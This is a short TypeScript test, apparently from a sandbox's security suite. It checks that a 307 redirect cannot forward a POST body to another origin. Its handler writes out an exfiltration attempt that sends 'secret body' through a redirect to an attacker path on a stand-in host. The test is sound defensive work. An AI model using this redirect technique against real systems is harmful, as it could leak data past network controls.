import assert from 'node:assert/strict'
import { defineAttempt, networkGrant } from '../../attempt.ts'

export const attempt = defineAttempt({
  title: 'a redirect carries no body to another origin',
  handler: (place) => `
    const to = encodeURIComponent('http://other.example.com:${place.granted}/${place.attacker}/echo')
    try { await context.network.fetch('http://api.example.com:${place.granted}/${place.attacker}/redirect-307?to=' + to, { method: 'POST', body: 'secret body' }); return 'carried' } catch (error) { return error.code }
  `,
  grants: (place) => ({ network: [networkGrant(place, 'api.example.com'), networkGrant(place, 'other.example.com')] }),
  gets: 'NETWORK_DENIED',
  check: ({ hits }) => assert.ok(!hits.some((hit) => hit.url.includes('/echo'))),
})
